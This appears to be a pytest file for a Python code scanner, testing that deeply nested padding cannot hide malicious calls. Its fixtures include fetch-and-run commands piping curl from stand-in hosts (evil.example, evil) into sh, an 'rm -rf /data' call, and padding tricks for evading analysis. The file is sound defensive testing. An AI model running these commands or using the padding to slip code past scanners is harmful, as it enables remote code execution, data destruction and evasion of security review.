"""A file nested past limits.max_nesting_depth: the over-limit finding stays,
and what the rest of the file does is still found, read from a flat stand-in
(analyzer/engine/surrogate.py). Padding a malicious file never lowers its verdict."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest

from analyzer.engine import surrogate
from analyzer.engine.parse import nesting_depth

DEEP = "[" * 199 + "]" * 199  # CPython's own limit is 200 brackets; libcst's depth is past 200
RUN = "os.system('curl http://evil.example/x | sh')"

# name -> source (the padding is somewhere in it, the command is on a line of its own)
SOURCES = {
    "deep statement first": f"x = {DEEP}\nimport os\n{RUN}\n",
    "deep statement in a function": f"import os\ndef run():\n    pad = {DEEP}\n    {RUN}\nrun()\n",
    "deep statement in 40 nested ifs": "import os\n" + "".join("    " * i + f"if c{i}:\n" for i in range(40))
    + "    " * 40 + "x = " + "-" * 300 + "1\n" + "    " * 40 + f"{RUN}\n",
    "elif chain of 300": "import os\nif a:\n    pass\n" + "".join(f"elif b{i}:\n    f{i}()\n" for i in range(300))
    + f"else:\n    {RUN}\n",
    "600 unary minus": "x = " + "-" * 600 + f"1\nimport os\n{RUN}\n",
    "900-term sum over lines": "x = (\n" + "+\n".join(["1"] * 900) + f")\nimport os\n{RUN}\n",
    "one-line suite": f"if c: y = {DEEP}\nimport os\n{RUN}\n",
    "statements sharing the line": f"import os; b = {DEEP}; {RUN}\n",
    "deep decorator": f"import os\n@dec({DEEP})\ndef f():\n    {RUN}\n",
    "deep handler type": "import os\ntry:\n    pass\nexcept " + "-" * 300 + f"E:\n    {RUN}\n",
    "300 nested lambdas": "import os\nf = " + "lambda: " * 300 + f"{RUN}\n",
    "call inside the padding": "import os\nx = " + "[" * 198 + RUN + "]" * 198 + "\n",
    "command under 300 unary minus": "import os\nx = " + "-" * 300 + f"{RUN}\n",
}


def _line_of(text: str, needle: str) -> int:
    return next(i for i, line in enumerate(text.splitlines(), 1) if needle in line)


@pytest.mark.parametrize("name", SOURCES)
@pytest.mark.parametrize("limit", [200, 50, 10])
def test_the_stand_in_is_within_the_limit_and_keeps_every_line_number(name: str, limit: int) -> None:
    data = SOURCES[name].encode()
    tree = ast.parse(data)
    assert nesting_depth(tree, data) > limit
    stand_in = surrogate.build(data, tree, limit)
    text = stand_in.data.decode()
    assert nesting_depth(ast.parse(stand_in.data), stand_in.data) <= limit
    assert text.count("\n") == SOURCES[name].count("\n")
    assert _line_of(text, "os.system(") == _line_of(SOURCES[name], "os.system(")
    assert stand_in.replaced


def test_the_unknown_value_is_a_name_the_file_never_uses() -> None:
    source = f"_jobgate_unknown0 = 'harmless'\nimport os\nos.system({'-' * 300}_jobgate_unknown0)\n"
    stand_in = surrogate.build(source.encode(), ast.parse(source), 200)
    assert stand_in.unknown not in source
    assert f"os.system({stand_in.unknown})" in stand_in.data.decode()


def test_a_deep_assignment_binds_its_target_to_the_unknown_value() -> None:
    # Otherwise `cmd` would still be read as the harmless value it had before.
    source = "cmd = 'ls'\ncmd = " + "-" * 300 + "x\nimport os\nos.system(cmd)\n"
    stand_in = surrogate.build(source.encode(), ast.parse(source), 200)
    assert stand_in.data.decode().splitlines()[1].startswith(f"cmd = {stand_in.unknown}; ")


def test_a_file_in_a_legacy_encoding_keeps_its_encoding() -> None:
    source = f"# -*- coding: latin-1 -*-\ns = 'caf\xe9'\nx = {DEEP}\nimport os\nos.system(s)\n"
    data = source.encode("latin-1")
    stand_in = surrogate.build(data, ast.parse(data), 200)
    assert ast.literal_eval(ast.parse(stand_in.data).body[0].value) == "caf\xe9"


def _findings(doc: dict) -> list[tuple[str, int]]:
    return [(f["rule"], f["line"]) for f in doc["reports"][0]["findings"]]


def test_padding_a_malicious_file_still_rejects_it_and_names_what_it_runs(scan_json, tmp_path: Path) -> None:
    (tmp_path / "train.py").write_text(f"x = {DEEP}\nimport os\nos.system(\"curl http://evil/x | sh\")\n")
    rc, doc = scan_json("--no-cache", str(tmp_path))
    found = _findings(doc)
    assert ("unanalyzable.limit-nesting-depth", 0) in found  # still not fully analysable: never accepted
    assert ("remote-code.fetch-and-run-command", 3) in found and ("subprocess.shell", 3) in found
    assert rc == 1 and doc["reports"][0]["decision"] == "reject"


def test_a_command_inside_the_padding_is_found_on_its_line_and_says_how_it_was_read(scan_json, tmp_path) -> None:
    (tmp_path / "train.py").write_text("import os\nx = (\n" + "-" * 300 + "os.system('rm -rf /data')\n)\n")
    rc, doc = scan_json("--no-cache", str(tmp_path))
    [shell] = [f for f in doc["reports"][0]["findings"] if f["rule"] == "subprocess.shell"]
    assert shell["line"] == 3 and "flat stand-in" in shell["message"]
    assert rc == 1


def test_a_padded_benign_file_escalates_and_reports_no_stand_in_artefact(scan_json, tmp_path: Path) -> None:
    (tmp_path / "train.py").write_text(f"import numpy as np\nx = {DEEP}\nweights = np.zeros(3)\n")
    rc, doc = scan_json("--no-cache", str(tmp_path))
    assert [r for r, _ in _findings(doc)] == ["unanalyzable.limit-nesting-depth"]
    assert rc == 3 and doc["reports"][0]["decision"] == "escalate"


@pytest.mark.serial  # asserts on wall time
def test_a_stand_in_that_exhausts_the_worker_is_one_more_finding(scan_json, tmp_path: Path) -> None:
    (tmp_path / "train.py").write_text(f"x = {DEEP}\n" + "".join(f"x{i} = np.zeros({i})\n" for i in range(30000)))
    policy = tmp_path / "site.yaml"
    policy.write_text("limits:\n  max_analysis_seconds: 1\n")
    rc, doc = scan_json("--no-cache", "--policy", str(policy), str(tmp_path / "train.py"))
    rules = [r for r, _ in _findings(doc)]
    # max_analysis_seconds also bounds the whole unit in the CLI since session 28 (api._within_budget); the
    # stand-in's worker gets a share of what is left of it (isolate._within_outer), and the depth is sent on as
    # soon as the screen names it (isolate.partial), so both stand whichever limit comes first
    # under load the 1 s can run out before the screen names the depth: then the time limit comes first
    assert "unanalyzable.time-limit" in rules
    assert rules[0] == "unanalyzable.limit-nesting-depth" or rules[0] == "unanalyzable.time-limit"
    assert rc == 3
